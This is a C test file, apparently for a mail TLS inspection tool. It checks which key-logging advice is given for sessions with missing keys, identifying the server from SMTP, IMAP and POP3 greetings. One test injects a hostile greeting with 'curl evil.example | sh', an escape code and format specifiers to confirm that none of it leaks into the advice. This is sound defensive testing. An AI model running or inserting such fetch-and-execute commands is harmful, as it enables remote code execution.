/*
 * What is advised where a key is missing: by the greeting of a server that is on this machine, its own or another
 * session's, and never in the server's words.
 */
#include "../main.h"
#include "common/key_log_ways.h"
#include "diagnosis/diagnosis.h"
#include "tap.h"

static const struct peers_plan plan = {.names = TAP_NAMES, .version = TLS1_3_VERSION};
static const uint8_t server[16] = {10, 0, 1, 1};
static const uint8_t client[16] = {10, 0, 0, 1};

static struct tap t;
static struct key_help *h;
static bool is_begun;

static void setup(void)
{
	h = key_help_new("/lib/keylog.so", "/run/keys.log");
	is_begun = false;
}

static void teardown(void)
{
	if (is_begun)
		tap_fini(&t);
	key_help_free(h);
}

static void begin(const struct key_help *help)
{
	tap_init(&t, true);
	t.w.options.key_help = help;
	t.labels = 0;
	wire_begin(&t.w);
	is_begun = true;
}

/* What is said in clear; then TLS. */
static void play_text(const char *text)
{
	if (t.sent > 0)
		peers_end(&t.p);
	wire_open(&t.w);
	wire_talk(&t.w, text);
	tap_shake(&t, &plan);
	tap_talk(&t, TAP_MAIL);
	tap_close(&t);
}

static void play(const char *greeting)
{
	char text[400];

	snprintf(text, sizeof(text), "S: 220 %s\nC: EHLO me\nS: 250 ns1\nC: STARTTLS\nS: 220 go\n", greeting);
	play_text(text);
}

/* In TLS from its first byte on: nobody greets in clear. */
static void play_sealed(void)
{
	if (t.sent > 0)
		peers_end(&t.p);
	wire_open(&t.w);
	tap_shake(&t, &plan);
	tap_talk(&t, TAP_MAIL);
	tap_close(&t);
}

static const char *advice_of(uint64_t number)
{
	const struct session *s = engine_connection(t.w.engine, number)->session;

	for (size_t i = 0; i < diagnosis_count(s); i++)
		if (diagnosis_finding(s, i)->rule == RULE_T12)
			return finding_advice(diagnosis_finding(s, i));
	ck_abort_msg("session %u lacks no key", (unsigned int)number);
	return NULL;
}

static uint64_t unread(unsigned int kind)
{
	return engine_counters(t.w.engine)->unread[kind];
}

static unsigned int kind_of(const char *banner)
{
	return KEY_HELP_PROGRAM + (unsigned int)key_log_ways_find(slice_from_text(banner));
}

START_TEST(a_program_on_this_machine_gets_its_lines)
{
	unsigned int postfix = kind_of("Postfix");

	key_help_add_address(h, server, false);
	begin(h);
	play("mx.example.com ESMTP Postfix (Debian/GNU)");
	play("mx.example.com ESMTP Exim 4.96");
	play("mx.example.com ESMTP");
	ck_assert_str_eq(advice_of(1), key_help_advice(h, postfix));
	ck_assert_str_eq(advice_of(2), key_help_advice(h, kind_of("Exim")));
	ck_assert_str_eq(advice_of(3), rule_row(RULE_T12)->advice); /* who greets and does not say is none of them */
	ck_assert_uint_eq(unread(postfix), 1);
	ck_assert_uint_eq(unread(kind_of("Exim")), 1);
	ck_assert_uint_eq(unread(KEY_HELP_MANUAL), 1);
}
END_TEST

START_TEST(so_does_one_of_each_protocol)
{
	key_help_add_address(h, server, false);
	begin(h);
	t.w.server_port = 143;
	play_text("S: * OK [CAPABILITY IMAP4rev1 STARTTLS] Dovecot (Debian) ready.\nC: a STARTTLS\nS: a OK go\n");
	t.w.server_port = 110;
	play_text("S: +OK Dovecot ready.\nC: STLS\nS: +OK go\n");
	t.w.server_port = 993; /* as the first */
	play_sealed();
	for (uint64_t number = 1; number <= 3; number++)
		ck_assert_str_eq(advice_of(number), key_help_advice(h, kind_of("Dovecot")));
}
END_TEST

START_TEST(one_elsewhere_gets_the_manual)
{
	begin(h);
	play("mx.example.com ESMTP Postfix");
	ck_assert_str_eq(advice_of(1), rule_row(RULE_T12)->advice);
	ck_assert_ptr_nonnull(strstr(advice_of(1), "mailtap-keylog(7)"));
	ck_assert_uint_eq(unread(KEY_HELP_MANUAL), 1);
}
END_TEST

START_TEST(a_client_on_this_machine_is_run_again)
{
	key_help_add_address(h, client, false);
	begin(h);
	play("mx.example.com ESMTP Postfix");
	ck_assert_str_eq(advice_of(1), key_help_advice(h, KEY_HELP_CLIENT));
	ck_assert_uint_eq(unread(KEY_HELP_CLIENT), 1);
}
END_TEST

/* Whatever is captured in it, wherever it is read. */
START_TEST(of_a_file_nothing_here_matters)
{
	begin(NULL);
	play("mx.example.com ESMTP Postfix");
	ck_assert_str_eq(advice_of(1), rule_row(RULE_T12)->advice);
	ck_assert_uint_eq(unread(KEY_HELP_MANUAL), 1);
}
END_TEST

START_TEST(another_session_tells_who_the_server_is)
{
	key_help_add_address(h, server, false);
	begin(h);
	play_sealed(); /* nobody has said it yet */
	wire_play(&t.w, "S: 220 mx.example.com ESMTP Exim 4.96\nC: QUIT\nS: 221 bye\n");
	tap_pass(&t, FLOW_LINGER_NS);
	t.w.server_port = 465;
	play_sealed();
	t.w.server_port = 993; /* another protocol: another program, perhaps */
	play_sealed();
	t.w.server_host = 2;
	t.w.server_port = 25;
	play_sealed();
	ck_assert_str_eq(advice_of(1), rule_row(RULE_T12)->advice);
	ck_assert_str_eq(advice_of(3), key_help_advice(h, kind_of("Exim")));
	ck_assert_str_eq(advice_of(4), rule_row(RULE_T12)->advice);
	ck_assert_str_eq(advice_of(5), rule_row(RULE_T12)->advice);
	ck_assert_uint_eq(unread(kind_of("Exim")), 1);
	ck_assert_uint_eq(unread(KEY_HELP_MANUAL), 3);
}
END_TEST

/* The text is the table's, whatever a greeting holds. */
START_TEST(a_hostile_greeting_gets_nothing_into_it)
{
	key_help_add_address(h, server, false);
	begin(h);
	play("x ESMTP Postfix\33[31m; curl evil.example | sh; LIBRARY KEYS %s%n");
	play("Postfix; curl evil.example | sh");
	ck_assert_ptr_null(strstr(advice_of(1), "evil"));
	ck_assert_ptr_null(strchr(advice_of(1), '\33'));
	ck_assert_str_eq(advice_of(2), key_help_advice(h, kind_of("Postfix")));
}
END_TEST

/* With its key it lacks none; and without another, it is what it was. */
START_TEST(a_key_that_comes_late_is_counted)
{
	unsigned int postfix = kind_of("Postfix");

	key_help_add_address(h, server, false);
	begin(h);
	play("mx.example.com ESMTP Postfix");
	ck_assert_uint_eq(unread(postfix), 1);
	tap_bring_keys(&t, 1U << KEY_CLIENT_HANDSHAKE_TRAFFIC_SECRET | 1U << KEY_CLIENT_TRAFFIC_SECRET_0);
	ck_assert_uint_eq(unread(postfix), 1);
	ck_assert_str_eq(advice_of(1), key_help_advice(h, postfix));
	tap_bring_keys(&t, TAP_ALL_LABELS);
	ck_assert_uint_eq(unread(postfix), 0);
	ck_assert(!tap_has(&t, 1, RULE_T12));
}
END_TEST

/* By another session, when this one ended for the first time. */
START_TEST(what_was_learnt_at_an_end_stays_behind_it)
{
	unsigned int exim = kind_of("Exim");

	key_help_add_address(h, server, false);
	begin(h);
	wire_play(&t.w, "S: 220 mx.example.com ESMTP Exim 4.96\nC: QUIT\nS: 221 bye\n");
	tap_pass(&t, FLOW_LINGER_NS);
	t.w.server_port = 465;
	play_sealed();
	ck_assert_uint_eq(unread(exim), 1);
	tap_bring_keys(&t, 1U << KEY_CLIENT_HANDSHAKE_TRAFFIC_SECRET | 1U << KEY_CLIENT_TRAFFIC_SECRET_0);
	ck_assert_uint_eq(unread(exim), 1);
	ck_assert_str_eq(advice_of(2), key_help_advice(h, exim));
}
END_TEST

void list_tests(TCase *c)
{
	tcase_add_checked_fixture(c, setup, teardown);
	tcase_add_test(c, a_program_on_this_machine_gets_its_lines);
	tcase_add_test(c, so_does_one_of_each_protocol);
	tcase_add_test(c, one_elsewhere_gets_the_manual);
	tcase_add_test(c, a_client_on_this_machine_is_run_again);
	tcase_add_test(c, of_a_file_nothing_here_matters);
	tcase_add_test(c, another_session_tells_who_the_server_is);
	tcase_add_test(c, a_hostile_greeting_gets_nothing_into_it);
	tcase_add_test(c, a_key_that_comes_late_is_counted);
	tcase_add_test(c, what_was_learnt_at_an_end_stays_behind_it);
}
